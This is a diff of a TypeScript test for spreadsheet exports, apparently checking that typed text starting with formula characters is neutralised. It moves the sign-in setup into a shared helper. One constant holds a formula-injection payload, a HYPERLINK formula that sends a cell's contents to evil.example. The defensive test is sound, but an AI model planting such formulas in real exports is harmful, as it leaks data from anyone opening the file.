@@ -1,6 +1,9 @@
 // No formula reaches a spreadsheet (issue 17): free text an editor typed — a target's decision — that Excel would
 // evaluate (=, +, -, @, tab, CR first) comes out of every CSV and XLSX with a leading quote, in the page downloads
 // and in the machine exports alike; figures, negative ones too, stay numbers.
+import type { WebFixture } from '../helpers/web-fixture';
+import type { Session } from '../helpers/web-auth';
+import { signedInFixture } from '../helpers/signed-in';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -8,13 +11,8 @@ import request from 'supertest';
 import type { Express } from 'express';
 import ExcelJS from 'exceljs';
 import { parse } from 'csv-parse/sync';
-import { LoginThrottle } from '../../src/auth';
-import { createApp } from '../../web/app';
-import { createServices } from '../../src/services';
 import { spreadsheetText, toCsv, toXlsx, writeRows } from '../../src/export-format';
 import { pageCsv, pageXlsx, type PageColumn } from '../../web/page-export';
-import { buildWebFixture, type WebFixture } from '../helpers/web-fixture';
-import { ensureUser, signIn, type Session } from '../helpers/web-auth';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?d="&A3,"x")';
 
@@ -23,10 +21,7 @@ let app: Express;
 let editor: Session;
 
 beforeAll(async () => {
-  f = buildWebFixture();
-  app = createApp({ ...createServices(f.db, f.config), now: f.now, loginThrottle: new LoginThrottle(1000) });
-  ensureUser(f.db, 'pavlodar-editor', 'editor', 'pavlodar');
-  editor = await signIn(app, f.db, 'pavlodar-editor');
+  ({ f, app, session: editor } = await signedInFixture('pavlodar-editor', 'editor', 'pavlodar'));
 });
 afterAll(() => f.close());
 
